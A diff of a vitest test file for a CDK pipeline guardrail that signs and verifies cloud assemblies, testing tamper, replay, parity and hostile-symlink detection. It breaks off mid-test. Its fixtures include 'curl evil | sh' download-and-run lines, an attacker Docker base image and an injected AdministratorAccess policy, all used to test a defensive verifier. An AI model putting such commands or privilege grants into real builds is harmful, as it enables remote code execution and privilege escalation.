@@ -1,34 +1,62 @@
-// The guardrail against the real app: one `cdk synth` for the whole file, then every case
-// verifies its own copy of that assembly, tampered the way the case describes.
+// The guardrail against the real app: one `cdk synth` for the whole file, signed once,
+// then every case verifies its own copy of that assembly, changed the way an attacker
+// (the commit under test) would change it.
 import { spawnSync } from 'node:child_process';
-import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
+import {
+  cpSync,
+  existsSync,
+  mkdtempSync,
+  readFileSync,
+  realpathSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  unlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type AssemblyInfo, findStage, readCloudAssembly } from '../../pipeline/guardrail/assembly.js';
-import { ATTESTATION_FILE, readAttestation, writeAttestation } from '../../pipeline/guardrail/attestation.js';
-import { keyIdOf } from '../../pipeline/guardrail/token.js';
+import {
+  ATTESTATION_FILE,
+  readAttestation,
+  type StageConfig,
+  writeAttestation,
+} from '../../pipeline/guardrail/attestation.js';
+import { runGate } from '../../pipeline/guardrail/gate.js';
+import { UnusableInputError } from '../../pipeline/guardrail/safe-fs.js';
+import { deriveKey, keyIdOf } from '../../pipeline/guardrail/token.js';
 import { type VerifyResult, verifyAssembly } from '../../pipeline/guardrail/verify.js';
 
 const REPO = resolve(__dirname, '..', '..');
-const TOKEN = 'r5gdjql-k000zve0-zxk'; // the cdk.json default, which the synth below signs with
-const OTHER_TOKEN = 'another-valid-token';
+const TOKEN = 'r5gdjql-k000zve0-zxk'; // the seed token
+const NEW_TOKEN = 'Rotated-Token-2026-q4-xyz';
+const RELEASE = 'a'.repeat(40);
+const OLDER_RELEASE = 'b'.repeat(40);
 const BIN = (name: string) => join(REPO, 'node_modules', '.bin', name);
+const CONTEXT = JSON.parse(readFileSync(join(REPO, 'cdk.json'), 'utf8')).context;
+const STAGE_CONFIG: StageConfig = { staging: CONTEXT.staging, production: CONTEXT.production };
 
 const temps: string[] = [];
 let synthesized: string;
+let signed: string;
 
 function tempDir(prefix: string): string {
-  const dir = mkdtempSync(join(tmpdir(), prefix));
+  const dir = realpathSync(mkdtempSync(join(tmpdir(), prefix)));
   temps.push(dir);
   return dir;
 }
 
-/** The environment of a child process, without any GUARDRAIL_TOKEN of the caller's. */
+/** The environment of a child process, without any guardrail variables of the caller's. */
 function childEnv(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
-  const env = { ...process.env, ...extra };
-  if (!('GUARDRAIL_TOKEN' in extra)) delete env.GUARDRAIL_TOKEN;
-  return env;
+  const env = { ...process.env };
+  for (const name of ['GUARDRAIL_TOKEN', 'GUARDRAIL_PREVIOUS_TOKEN', 'PIPELINE_EXECUTION_ID']) delete env[name];
+  return { ...env, ...extra };
+}
+
+function sign(dir: string, token = TOKEN, commit = RELEASE, stageConfig: StageConfig | null = STAGE_CONFIG): void {
+  writeAttestation(dir, deriveKey(token), { release: { commit, pipelineExecutionId: null }, ...(stageConfig ? { stageConfig } : {}) });
 }
 
 beforeAll(() => {
@@ -39,24 +67,24 @@ beforeAll(() => {
     encoding: 'utf8',
   });
   if (synth.status !== 0) throw new Error(`cdk synth failed (${synth.status}):\n${synth.stderr}`);
-  if (!existsSync(join(synthesized, ATTESTATION_FILE))) {
-    throw new Error(`cdk synth wrote no ${ATTESTATION_FILE}: bin/app.ts must call writeAttestation after app.synth()`);
-  }
+  signed = tempDir('guardrail-signed-');
+  cpSync(synthesized, signed, { recursive: true, verbatimSymlinks: true });
+  sign(signed);
 });
 
 afterAll(() => {
   for (const dir of temps) rmSync(dir, { recursive: true, force: true });
 });
 
-/** A fresh copy of the synthesized (and signed) assembly. */
+/** A fresh copy of the signed assembly. */
 function copy(): string {
   const dir = tempDir('guardrail-case-');
-  cpSync(synthesized, dir, { recursive: true, verbatimSymlinks: true });
+  cpSync(signed, dir, { recursive: true, verbatimSymlinks: true });
   return dir;
 }
 
-function verify(dir: string, env: NodeJS.ProcessEnv = { GUARDRAIL_TOKEN: TOKEN }): VerifyResult {
-  return verifyAssembly({ assemblyDir: dir, env });
+function verify(dir: string, env: NodeJS.ProcessEnv = { GUARDRAIL_TOKEN: TOKEN }, release = RELEASE): VerifyResult {
+  return verifyAssembly({ assemblyDir: dir, env, release });
 }
 
 /** Ids of the checks that did not pass. */
@@ -76,9 +104,9 @@ function text(result: VerifyResult, id: string): string {
   return [c.summary, ...c.details].join('\n');
 }
 
-function production(dir: string): AssemblyInfo {
-  return findStage(readCloudAssembly(dir), 'Production');
-}
+const stage = (dir: string, name: string): AssemblyInfo => findStage(readCloudAssembly(dir), name);
+const production = (dir: string) => stage(dir, 'Production');
+const staging = (dir: string) => stage(dir, 'Staging');
 
 /** The first production template holding a resource of `type`, with that resource's logical id. */
 function productionResource(dir: string, type: string): { template: string; logicalId: string } {
@@ -90,10 +118,17 @@ function productionResource(dir: string, type: string): { template: string; logi
   throw new Error(`no ${type} in the production templates`);
 }
 
-function firstDockerContext(dir: string): { id: string; path: string } {
+function firstDockerContext(dir: string): { id: string; path: string; manifest: string } {
   const asset = production(dir).assets.find((a) => a.kind === 'docker-context');
   if (!asset?.path) throw new Error('production deploys no Docker image asset');
-  return { id: asset.id, path: asset.path };
+  return { id: asset.id, path: asset.path, manifest: asset.manifest };
+}
+
+/** The assets manifest of a stage that lists Docker images. */
+function dockerManifest(assembly: AssemblyInfo): string {
+  const asset = assembly.assets.find((a) => a.kind === 'docker-context');
+  if (!asset) throw new Error(`${assembly.displayName} has no Docker image`);
+  return asset.manifest;
 }
 
 function readJson(file: string): any {
@@ -106,37 +141,49 @@ function editJson(file: string, edit: (data: any) => void): void {
   writeFileSync(file, JSON.stringify(data, null, 1));
 }
 
-describe('a fresh synth of the app', () => {
-  it('is signed at synth and passes every check', () => {
+const CHECK_IDS = [
+  'token',
+  'attestation',
+  'key-id',
+  'signature',
+  'release',
+  'digests',
+  'staging-parity',
+  'template-parity',
+  'production-contents',
+  'log-retention',
+  's3-public-access',
+  's3-encryption',
+  's3-ssl',
+  'cloudfront-logging',
+  'alb-logging',
+  'vpc-flow-logs',
+  'iam-wildcard',
+  'nag',
+];
+
+describe('a fresh synth of the app, signed by the Sign step', () => {
+  it('is not signed by the synth itself (the commit never holds the token)', () => {
+    expect(existsSync(join(synthesized, ATTESTATION_FILE))).toBe(false);
+  });
+
+  it('passes every check', () => {
     const result = verify(copy());
     expect(notPassing(result)).toEqual([]);
     expect(result.ok).toBe(true);
-    expect(result.checks.map((c) => c.id)).toEqual([
-      'token',
-      'attestation',
-      'key-id',
-      'signature',
-      'digests',
-      'staging-parity',
-      'log-retention',
-      's3-public-access',
-      's3-encryption',
-      's3-ssl',
-      'cloudfront-logging',
-      'alb-logging',
-      'vpc-flow-logs',
-      'iam-wildcard',
-      'nag',
-    ]);
+    expect(result.checks.map((c) => c.id)).toEqual(CHECK_IDS);
+    expect(result.signedWith).toBe('GUARDRAIL_TOKEN');
   });
 
-  it('attests every template and asset of both stages, with the key id and never the token', () => {
-    const raw = readFileSync(join(synthesized, ATTESTATION_FILE), 'utf8');
+  it('attests every template and asset of both stages and the release, with the key id and never the token', () => {
+    const raw = readFileSync(join(signed, ATTESTATION_FILE), 'utf8');
     expect(raw).not.toContain(TOKEN);
-    const attestation = readAttestation(synthesized);
+    const attestation = readAttestation(signed);
     expect(attestation.keyId).toBe(keyIdOf(TOKEN));
+    expect(attestation.release).toEqual({ commit: RELEASE, pipelineExecutionId: null });
+    expect(attestation.kdf).toBe('scrypt(N=32768,r=8,p=1,dkLen=32,salt="br-fagq2/guardrail/v2")');
     const attested = new Set(attestation.entries.map((e) => e.path));
-    for (const assembly of readCloudAssembly(synthesized)) {
+    for (const assembly of readCloudAssembly(signed)) {
       expect(attested).toContain(assembly.manifest);
       for (const stack of assembly.stacks) expect(attested).toContain(stack.template);
       for (const asset of assembly.assets) expect(attested).toContain(asset.path);
@@ -145,10 +192,8 @@ describe('a fresh synth of the app', () => {
     expect(attested).not.toContain('tree.json');
     const docker = attestation.entries.filter((e) => e.kind === 'docker-context');
     expect(docker.length).toBeGreaterThanOrEqual(2); // the api and worker images
-    const stageNames = [production(synthesized).displayName, findStage(readCloudAssembly(synthesized), 'Staging').displayName].sort();
+    const stageNames = [production(signed).displayName, staging(signed).displayName].sort();
     for (const entry of docker) expect(entry.usedBy).toEqual(stageNames);
-    const paths = attestation.entries.map((e) => e.path);
-    expect(paths).toEqual([...paths].sort());
   });
 });
 
@@ -163,75 +208,24 @@ describe('tampering with a signed assembly', () => {
     writeFileSync(file, `${content.slice(0, at)}\t${content.slice(at + 1)}`);
     const result = verify(dir);
     expect(notPassing(result)).toEqual(['digests']);
-    expect(check(result, 'digests').details).toEqual([
-      `changed: ${template} (template) differs from the signed SHA-256`,
-    ]);
+    expect(check(result, 'digests').details).toEqual([`changed: ${template} (template) differs from the signed SHA-256`]);
   });
 
-  it('fails on one byte of an asset file changed, naming the file inside the asset', () => {
+  it('fails on a file changed, added or removed in an asset directory, naming the file', () => {
     const dir = copy();
     const asset = firstDockerContext(dir);
     const file = join(dir, asset.path, 'Dockerfile');
     const bytes = readFileSync(file);
     bytes[0] = bytes[0]! ^ 0x20;
     writeFileSync(file, bytes);
-    const result = verify(dir);
-    expect(notPassing(result)).toEqual(['digests']);
-    expect(check(result, 'digests').details).toEqual([
-      `changed: ${asset.path}/Dockerfile (file of asset ${asset.path}) differs from the signed SHA-256`,
-    ]);
-  });
-
-  it('fails on a file added to an asset directory', () => {
-    const dir = copy();
-    const asset = firstDockerContext(dir);
     writeFileSync(join(dir, asset.path, 'backdoor.sh'), 'curl evil | sh\n');
+    unlinkSync(join(dir, asset.path, 'package.json'));
     const result = verify(dir);
     expect(notPassing(result)).toEqual(['digests']);
-    expect(check(result, 'digests').details).toEqual([
+    expect([...check(result, 'digests').details].sort()).toEqual([
       `added: ${asset.path}/backdoor.sh (file of asset ${asset.path}) is not in the attestation`,
-    ]);
-  });
-
-  it('fails on a file removed from an asset directory', () => {
-    const dir = copy();
-    const asset = firstDockerContext(dir);
-    unlinkSync(join(dir, asset.path, 'Dockerfile'));
-    const result = verify(dir);
-    expect(notPassing(result)).toEqual(['digests']);
-    expect(check(result, 'digests').details).toEqual([
-      `removed: ${asset.path}/Dockerfile (file of asset ${asset.path})`,
-    ]);
-  });
-
-  it('fails on a template removed from the assembly', () => {
-    const dir = copy();
-    const { template } = productionResource(dir, 'AWS::S3::Bucket');
-    unlinkSync(join(dir, template));
-    const result = verify(dir);
-    expect(notPassing(result)).toContain('digests');
-    expect(check(result, 'digests').details).toContain(
-      `removed: ${template} (template) is named by a manifest but missing from the assembly`,
-    );
-  });
-
-  it('fails on a template added to the production stage, naming the manifest and the template', () => {
-    const dir = copy();
-    const prod = production(dir);
-    const template = `${prod.directory}/Extra.template.json`;
-    writeFileSync(join(dir, template), JSON.stringify({ Resources: {} }));
-    editJson(join(dir, prod.manifest), (manifest) => {
-      manifest.artifacts.Extra = {
-        type: 'aws:cloudformation:stack',
-        environment: 'aws://unknown-account/unknown-region',
-        properties: { templateFile: 'Extra.template.json' },
-      };
-    });
-    const result = verify(dir);
-    expect(notPassing(result)).toEqual(['digests']);
-    expect(check(result, 'digests').details).toEqual([
-      `added: ${template} (template, used by ${prod.displayName}) is not in the attestation`,
-      `changed: ${prod.manifest} (manifest) differs from the signed SHA-256`,
+      `changed: ${asset.path}/Dockerfile (file of asset ${asset.path}) differs from the signed SHA-256`,
+      `removed: ${asset.path}/package.json (file of asset ${asset.path})`,
     ]);
   });
 
@@ -239,11 +233,12 @@ describe('tampering with a signed assembly', () => {
     const dir = copy();
     const { template } = productionResource(dir, 'AWS::S3::Bucket');
     writeFileSync(join(dir, template), readFileSync(join(dir, template), 'utf8').replace('\n ', '\n\t'));
-    // The forger recomputes the digest but, without the token, cannot recompute the HMAC.
     const forged = readAttestation(dir);
-    const honest = readAttestation(copyWithResign(dir));
+    const honest = tempDir('guardrail-resigned-');
+    cpSync(dir, honest, { recursive: true });
+    sign(honest);
     editJson(join(dir, ATTESTATION_FILE), (data) => {
-      data.entries = honest.entries;
+      data.entries = readAttestation(honest).entries;
       data.hmac = forged.hmac;
     });
     const result = verify(dir);
@@ -251,220 +246,307 @@ describe('tampering with a signed assembly', () => {
     expect(check(result, 'signature').summary).toMatch(/HMAC-SHA256 of the attestation does not match/);
   });
 
-  it('fails on a wrong token, naming both key ids', () => {
-    const result = verify(copy(), { GUARDRAIL_TOKEN: OTHER_TOKEN });
+  it('fails on an assembly the commit signed with a token of its own (the seed token), naming the key ids', () => {
+    const dir = copy(); // signed with the public seed token
+    const result = verify(dir, { GUARDRAIL_TOKEN: NEW_TOKEN });
     expect(notPassing(result)).toEqual(['key-id', 'signature']);
     expect(check(result, 'key-id').summary).toBe(
-      `wrong token: the attestation was signed with key id ${keyIdOf(TOKEN)}, GUARDRAIL_TOKEN has key id ${keyIdOf(OTHER_TOKEN)}`,
+      `unknown key: the attestation was signed with key id ${keyIdOf(TOKEN)}; accepted: ${keyIdOf(NEW_TOKEN)} (GUARDRAIL_TOKEN)`,
     );
   });
 
-  it('fails without a token', () => {
-    const result = verify(copy(), {});
-    expect(notPassing(result)).toEqual(['token', 'key-id', 'signature']);
-    expect(check(result, 'token').summary).toBe('guardrail token missing: set GUARDRAIL_TOKEN');
-    expect(check(result, 'signature').status).toBe('skip');
+  it('fails without a token, and with a 5-character token', () => {
+    expect(notPassing(verify(copy(), {}))).toEqual(['token', 'key-id', 'signature']);
+    const weak = verify(copy(), { GUARDRAIL_TOKEN: 'ab-12' });
+    expect(notPassing(weak)).toEqual(['token', 'key-id', 'signature']);
+    expect(text(weak, 'token')).toMatch(/GUARDRAIL_TOKEN is too weak \(5 characters\): it needs 20 to 256/);
+    expect(JSON.stringify(weak)).not.toContain('ab-12');
   });
 
-  it('fails on a malformed token without printing it', () => {
-    const result = verify(copy(), { GUARDRAIL_TOKEN: 'Not A Token' });
-    expect(notPassing(result)).toEqual(['token', 'key-id', 'signature']);
-    expect(text(result, 'token')).toMatch(/GUARDRAIL_TOKEN is malformed/);
-    expect(JSON.stringify(result)).not.toContain('Not A Token');
-  });
-
-  it('fails on a malformed attestation (not JSON)', () => {
+  it('fails on a malformed or missing attestation', () => {
     const dir = copy();
     const file = join(dir, ATTESTATION_FILE);
     writeFileSync(file, readFileSync(file, 'utf8').slice(0, 100));
-    const result = verify(dir);
-    expect(notPassing(result)).toEqual(['attestation', 'key-id', 'signature', 'digests']);
-    expect(check(result, 'attestation').summary).toMatch(/^guardrail-attestation.json is not valid JSON/);
-  });
-
-  it('fails on a malformed attestation (valid JSON, wrong shape)', () => {
-    const dir = copy();
-    editJson(join(dir, ATTESTATION_FILE), (data) => {
-      data.hmac = 'not-hex';
-    });
-    const result = verify(dir);
-    expect(notPassing(result)).toEqual(['attestation', 'key-id', 'signature', 'digests']);
-    expect(check(result, 'attestation').summary).toMatch(/^guardrail-attestation.json is malformed: .*hmac/);
-  });
-
-  it('fails on a missing attestation', () => {
-    const dir = copy();
-    unlinkSync(join(dir, ATTESTATION_FILE));
-    const result = verify(dir);
-    expect(check(result, 'attestation').summary).toMatch(/guardrail-attestation.json is missing .*not signed/);
+    expect(check(verify(dir), 'attestation').summary).toMatch(/^guardrail-attestation.json: not valid JSON/);
+    unlinkSync(file);
+    expect(check(verify(dir), 'attestation').summary).toMatch(/guardrail-attestation.json is missing .*not signed/);
   });
 });
 
-/** A copy of `dir` re-signed with the right token; returns the copy. */
-function copyWithResign(dir: string): string {
-  const other = tempDir('guardrail-resigned-');
-  cpSync(dir, other, { recursive: true, verbatimSymlinks: true });
-  writeAttestation(other, TOKEN);
-  return other;
-}
-
-describe('checks that hold even for a correctly signed assembly', () => {
-  it('fails on an asset that only production deploys', () => {
+describe('releases bound to their commit', () => {
+  it('refuses an assembly signed for an older commit (replay)', () => {
     const dir = copy();
-    const asset = firstDockerContext(dir);
-    // A different build context under a new id, swapped in consistently in the production
-    // assets manifest and template, then signed with the right token: only parity can catch it.
-    const newId = 'f'.repeat(64);
-    const newPath = `asset.${newId}`;
-    cpSync(join(dir, asset.path), join(dir, newPath), { recursive: true });
-    writeFileSync(join(dir, newPath, 'untested.txt'), 'never deployed to staging\n');
-    const prod = production(dir);
-    const files = [...prod.assetManifests, ...prod.stacks.map((s) => s.template)];
-    let replaced = 0;
-    for (const file of files) {
-      const content = readFileSync(join(dir, file), 'utf8');
-      replaced += content.split(asset.id).length - 1;
-      writeFileSync(join(dir, file), content.split(asset.id).join(newId));
-    }
-    expect(replaced).toBeGreaterThanOrEqual(3); // manifest key, source directory, image tag; the template's image URI
-    // Unsigned, the swap is caught by the digests, naming the new asset.
-    expect(check(verify(dir), 'digests').details).toContain(
-      `added: ${newPath} (docker-context, used by ${prod.displayName}) is not in the attestation`,
+    sign(dir, TOKEN, OLDER_RELEASE);
+    const result = verify(dir);
+    expect(notPassing(result)).toEqual(['release']);
+    expect(check(result, 'release').summary).toBe(
+      `the assembly was signed for commit ${OLDER_RELEASE}, not for the release ${RELEASE}: refusing a replay`,
     );
-    writeAttestation(dir, TOKEN);
+  });
+
+  it('refuses an assembly signed in another pipeline execution', () => {
+    const dir = copy();
+    writeAttestation(dir, deriveKey(TOKEN), { release: { commit: RELEASE, pipelineExecutionId: 'exec-1' }, stageConfig: STAGE_CONFIG });
+    expect(notPassing(verify(dir, { GUARDRAIL_TOKEN: TOKEN, PIPELINE_EXECUTION_ID: 'exec-1' }))).toEqual([]);
+    const result = verify(dir, { GUARDRAIL_TOKEN: TOKEN, PIPELINE_EXECUTION_ID: 'exec-2' });
+    expect(notPassing(result)).toEqual(['release']);
+  });
+});
+
+describe('token rotation', () => {
+  it('accepts the previous token during a rotation window and says which key verified', () => {
+    const result = verify(copy(), { GUARDRAIL_TOKEN: NEW_TOKEN, GUARDRAIL_PREVIOUS_TOKEN: TOKEN });
+    expect(notPassing(result)).toEqual([]);
+    expect(result.signedWith).toBe('GUARDRAIL_PREVIOUS_TOKEN');
+    expect(result.acceptedKeyIds).toEqual([keyIdOf(NEW_TOKEN), keyIdOf(TOKEN)]);
+  });
+
+  it('refuses a key that is neither current nor previous', () => {
+    const result = verify(copy(), { GUARDRAIL_TOKEN: NEW_TOKEN, GUARDRAIL_PREVIOUS_TOKEN: 'Another-Old-Token-1234' });
+    expect(notPassing(result)).toEqual(['key-id', 'signature']);
+  });
+});
+
+describe('parity: what production ships is what staging tested', () => {
+  it('fails on a production-only NODE_IMAGE build arg (another base image), naming the input', () => {
+    const dir = copy();
+    editJson(join(dir, dockerManifest(production(dir))), (manifest) => {
+      for (const image of Object.values<any>(manifest.dockerImages)) {
+        image.source.dockerBuildArgs = { NODE_IMAGE: 'docker.io/attacker/node:22' };
+      }
+    });
+    sign(dir);
+    const result = verify(dir);
+    expect(notPassing(result)).toEqual(['staging-parity']);
+    expect(check(result, 'staging-parity').details).toHaveLength(2);
+    expect(text(result, 'staging-parity')).toMatch(
+      /Docker image \w+ .* is deployed by Pipeline\/Production but Pipeline\/Staging never deployed it: staging asset \w+ builds the same content with other inputs: source\/dockerBuildArgs\/NODE_IMAGE: staging has "public.ecr.aws\/docker\/library\/node:22-alpine", production "docker.io\/attacker\/node:22"/,
+    );
+  });
+
+  it('fails on an executable asset with the same id but another command', () => {
+    const dir = copy();
+    const image = (command: string[]) => ({
+      source: { executable: command },
+      destinations: {},
+    });
+    editJson(join(dir, dockerManifest(staging(dir))), (m) => {
+      m.dockerImages.exec = image(['sh', '-c', 'build-image']);
+    });
+    editJson(join(dir, dockerManifest(production(dir))), (m) => {
+      m.dockerImages.exec = image(['sh', '-c', 'build-image && curl evil | sh']);
+    });
+    sign(dir);
     const result = verify(dir);
     expect(notPassing(result)).toEqual(['staging-parity']);
     expect(check(result, 'staging-parity').details).toEqual([
-      expect.stringMatching(
-        new RegExp(
-          `^docker-context ${newId} \\(${newPath}, named by ${prod.directory}/.*\\.assets\\.json\\) is deployed by ${prod.displayName} but .*Staging never deployed it$`,
-        ),
-      ),
+      expect.stringMatching(/^Docker image exec \(built by \["sh","-c","build-image && curl evil \| sh"\].*never deployed it: .*source\/executable\/2/),
     ]);
   });
 
-  it('fails on an unacknowledged cdk-nag finding', () => {
+  it('fails on a production-only file asset named *.template.json (templates are recognised by the manifests, not by name)', () => {
     const dir = copy();
-    let rule = '';
-    editJson(join(dir, 'validation-report.json'), (report) => {
-      const plugin = report.pluginReports.find((p: any) => (p.suppressedViolations ?? []).length > 0);
-      const acknowledged = plugin.suppressedViolations.shift();
-      const { acknowledgedId, reason, acknowledgedAt, acknowledgedStackTrace, ...finding } = acknowledged;
-      rule = finding.ruleName;
-      plugin.violations.push(finding);
-      plugin.conclusion = 'failure';
+    writeFileSync(join(dir, 'payload.template.json'), JSON.stringify({ Resources: {} }));
+    editJson(join(dir, dockerManifest(production(dir))), (m) => {
+      m.files.payload = { source: { path: '../payload.template.json', packaging: 'file' }, destinations: {} };
     });
-    writeAttestation(dir, TOKEN);
+    sign(dir);
     const result = verify(dir);
-    expect(notPassing(result)).toEqual(['nag']);
-    expect(check(result, 'nag').details).toEqual([expect.stringContaining(`${rule} (error) at `)]);
-    expect(check(result, 'nag').details[0]).toMatch(/not acknowledged$/);
+    expect(notPassing(result)).toEqual(['staging-parity']);
+    expect(text(result, 'staging-parity')).toMatch(/file asset payload \(payload.template.json, .*never deployed it/);
   });
 
-  it('fails on a bucket without encryption', () => {
+  it('fails on a production template that differs from staging beyond the per-stage configuration', () => {
     const dir = copy();
-    const { template, logicalId } = productionResource(dir, 'AWS::S3::Bucket');
+    const { template, logicalId } = productionResource(dir, 'AWS::IAM::Role');
     editJson(join(dir, template), (t) => {
-      delete t.Resources[logicalId].Properties.BucketEncryption;
+      t.Resources[logicalId].Properties.ManagedPolicyArns = ['arn:aws:iam::aws:policy/AdministratorAccess'];
     });
-    writeAttestation(dir, TOKEN);
+    sign(dir);
     const result = verify(dir);
-    expect(notPassing(result)).toEqual(['s3-encryption']);
-    expect(check(result, 's3-encryption').details).toEqual([
-      `${template}: ${logicalId} (AWS::S3::Bucket) has no BucketEncryption.ServerSideEncryptionConfiguration`,
+    expect(notPassing(result)).toEqual(['template-parity']);
+    expect(check(result, 'template-parity').details).toEqual([
+      `${template}/Resources/${logicalId}/Properties/ManagedPolicyArns: only in production (["arn:aws:iam::aws:policy/AdministratorAccess"])`,
     ]);
   });
 
-  it('fails on a log group without retention', () => {
+  it('accepts the per-stage values only because the signed configuration declares them', () => {
     const dir = copy();
-    const { template, logicalId } = productionResource(dir, 'AWS::Logs::LogGroup');
-    editJson(join(dir, template), (t) => {
-      delete t.Resources[logicalId].Properties.RetentionInDays;
-    });
-    writeAttestation(dir, TOKEN);
+    sign(dir, TOKEN, RELEASE, null); // signed without --config
     const result = verify(dir);
-    expect(notPassing(result)).toEqual(['log-retention']);
-    expect(check(result, 'log-retention').details).toEqual([
-      `${template}: ${logicalId} (AWS::Logs::LogGroup) has no RetentionInDays: its logs would be kept forever`,
-    ]);
+    expect(notPassing(result)).toEqual(['template-parity']);
+    expect(text(result, 'template-parity')).toMatch(/RetentionInDays: staging has 30, production 365/);
   });
 
-  it('audits production only: a staging bucket without encryption does not block the release', () => {
+  it('fails on a production-only file in the production assembly, whatever its name', () => {
     const dir = copy();
-    const staging = findStage(readCloudAssembly(dir), 'Staging');
-    let edited = 0;
-    for (const stack of staging.stacks) {
-      editJson(join(dir, stack.template), (t) => {
-        for (const resource of Object.values<any>(t.Resources)) {
-          if (resource.Type === 'AWS::S3::Bucket') {
-            delete resource.Properties.BucketEncryption;
-            edited++;
-          }
-        }
-      });
-    }
-    expect(edited).toBeGreaterThan(0);
-    writeAttestation(dir, TOKEN);
-    expect(notPassing(verify(dir))).toEqual([]);
+    writeFileSync(join(dir, production(dir).directory, 'notes.txt'), 'x');
+    sign(dir);
+    const result = verify(dir);
+    expect(notPassing(result)).toEqual(['production-contents']);
   });
 });
 
-describe('the CLI process', () => {
-  const cli = (args: string[], env: NodeJS.ProcessEnv) =>
-    spawnSync(BIN('tsx'), [join(REPO, 'pipeline', 'guardrail', 'cli.ts'), ...args], { cwd: REPO, env, encoding: 'utf8' });
-
-  it('exits 0 on a good assembly, prints one line per check and writes the report outside the attested set', () => {
+describe('reading a hostile assembly', () => {
+  it('refuses a production assembly directory that is a symlink to a folder outside the assembly', () => {
     const dir = copy();
-    const run = cli(['verify', dir], childEnv({ GUARDRAIL_TOKEN: TOKEN }));
+    const prod = production(dir).directory;
+    const outside = join(tempDir('guardrail-outside-'), 'prod');
+    renameSync(join(dir, prod), outside);
+    symlinkSync(outside, join(dir, prod));
+    expect(() => verify(dir)).toThrow(UnusableInputError);
+    expect(() => verify(dir)).toThrow(/assembly-Pipeline-Production: resolves to .*, outside the assembly: refusing symlinks that leave it/);
+  });
+
+  it('refuses a symlink to /dev/zero (never reads it)', () => {
+    const dir = copy();
+    unlinkSync(join(dir, 'validation-report.json'));
+    symlinkSync('/dev/zero', join(dir, 'validation-report.json'));
+    expect(() => verify(dir)).toThrow(/validation-report.json: resolves to \/dev\/zero, outside the assembly/);
+    const inAsset = copy();
+    symlinkSync('/dev/zero', join(inAsset, firstDockerContext(inAsset).path, 'zero'));
+    expect(() => verify(inAsset)).toThrow(/zero: a symlink to "\/dev\/zero", outside the assembly/);
+  });
+
+  it('refuses nested assemblies that name each other (a cycle) instead of overflowing the stack', () => {
+    const dir = copy();
+    const nest = (from: AssemblyInfo, to: AssemblyInfo) =>
+      editJson(join(dir, from.manifest), (m) => {
+        m.artifacts.Loop = { type: 'cdk:cloud-assembly', properties: { directoryName: `../${to.directory}`, displayName: 'Loop' } };
+      });
+    const [prod, stag] = [production(dir), staging(dir)];
+    nest(prod, stag);
+    nest(stag, prod);
+    expect(() => verify(dir)).toThrow(UnusableInputError);
+    expect(() => verify(dir)).toThrow(/nested assemblies form a cycle: .*assembly-Pipeline-Staging -> .*assembly-Pipeline-Production -> .*assembly-Pipeline-Staging/);
+  });
+
+  it('refuses an oversized JSON file with a clear message', () => {
+    const dir = copy();
+    const { template } = productionResource(dir, 'AWS::S3::Bucket');
+    const file = join(dir, template);
+    writeFileSync(file, readFileSync(file, 'utf8').padEnd(64 * 1024 * 1024 + 1, ' '));
+    expect(() => verify(dir)).toThrow(new RegExp(`${template}: 67108865 bytes, over the limit of 67108864 bytes`));
+  });
+});
+
+describe('the self-mutation gate (the real pipeline template)', () => {
+  const pipelineTemplate = () => readJson(join(synthesized, 'Pipeline.template.json'));
+  const deployed = (template: unknown) => {
+    const file = join(tempDir('guardrail-deployed-'), 'deployed.json');
+    writeFileSync(file, JSON.stringify(template));
+    return file;
+  };
+
+  it('passes an unchanged template, and one whose asset hashes changed (get-template output too)', () => {
+    expect(runGate({ deployedFile: deployed(pipelineTemplate()), synthesizedDir: synthesized }).outcome).toBe('unchanged');
+    const hashes = [...new Set(JSON.stringify(pipelineTemplate()).match(/[0-9a-f]{64}/g))];
+    expect(hashes.length).toBeGreaterThanOrEqual(3);
+    let text = JSON.stringify(pipelineTemplate());
+    for (const [i, hash] of hashes.entries()) text = text.split(hash).join(String(i).repeat(64).slice(0, 64));
+    const result = runGate({ deployedFile: deployed({ TemplateBody: text }), synthesizedDir: synthesized });
+    expect(result).toMatchObject({ outcome: 'unchanged', changes: [] });
+  });
+
+  it('refuses an added IAM policy with the digest to approve, and passes once that digest is approved', () => {
+    const before = pipelineTemplate();
+    // The deployed stack lacks a policy the commit adds (the commit grants itself something).
+    delete before.Resources[Object.keys(before.Resources).find((id) => before.Resources[id].Type === 'AWS::IAM::Policy')!];
+    const file = deployed(before);
+    const refused = runGate({ deployedFile: file, synthesizedDir: synthesized });
+    expect(refused.outcome).toBe('refused');
+    expect(refused.digest).toMatch(/^[0-9a-f]{64}$/);
+    expect(refused.changes).toEqual([expect.stringMatching(/^added: \w+ \(AWS::IAM::Policy\)$/)]);
+    expect(runGate({ deployedFile: file, synthesizedDir: synthesized, approved: [refused.digest] }).outcome).toBe('approved');
+    expect(runGate({ deployedFile: file, synthesizedDir: synthesized, approved: ['0'.repeat(64)] }).outcome).toBe('refused');
+  });
+});
+
+describe('the CLI process, run from another directory', () => {
+  const cwd = tmpdir(); // the approved checkout is elsewhere: nothing may depend on the cwd
+  const cli = (args: string[], env: NodeJS.ProcessEnv) =>
+    spawnSync(BIN('tsx'), [join(REPO, 'pipeline', 'guardrail', 'cli.ts'), ...args], {
+      cwd,
+      env,
+      encoding: 'utf8',
+      timeout: 60_000, // a hang is killed (status null) and fails the exit-code assertions
+    });
+  const mkfifo = (path: string) => {
+    const made = spawnSync('mkfifo', [path]);
+    if (made.status !== 0) throw new Error(`mkfifo failed: ${made.stderr}`);
+  };
+
+  it('signs (exit 0) and verifies (exit 0), one line per check and a report outside the attested set', () => {
+    const dir = tempDir('guardrail-cli-');
+    cpSync(synthesized, dir, { recursive: true });
+    const signing = cli(['sign', dir, '--release', RELEASE, '--config', join(REPO, 'cdk.json')], childEnv({ GUARDRAIL_TOKEN: TOKEN, PIPELINE_EXECUTION_ID: 'exec-9' }));
+    expect(signing.stderr).toBe('');
+    expect(signing.status).toBe(0);
+    expect(signing.stdout).toMatch(new RegExp(`^signed \\d+ entries for commit ${RELEASE} with key id ${keyIdOf(TOKEN)}`));
+    const run = cli(['verify', dir, '--release', RELEASE], childEnv({ GUARDRAIL_TOKEN: TOKEN, PIPELINE_EXECUTION_ID: 'exec-9' }));
     expect(run.stderr).toBe('');
     expect(run.status).toBe(0);
-    const lines = run.stdout.trim().split('\n');
